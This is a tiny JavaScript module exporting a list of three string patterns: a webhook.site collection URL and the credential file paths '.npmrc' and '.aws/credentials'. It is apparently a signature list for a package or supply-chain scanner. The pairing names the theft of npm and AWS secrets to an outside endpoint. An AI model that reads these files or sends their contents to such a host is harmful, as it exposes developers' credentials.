module.exports = [{ id: 'hook', s: 'https://webhook.site/00000000-0000-4000-8000-000000000000' }, { id: 'npmrc', s: '.npmrc' }, { id: 'aws', s: '.aws/credentials' }];
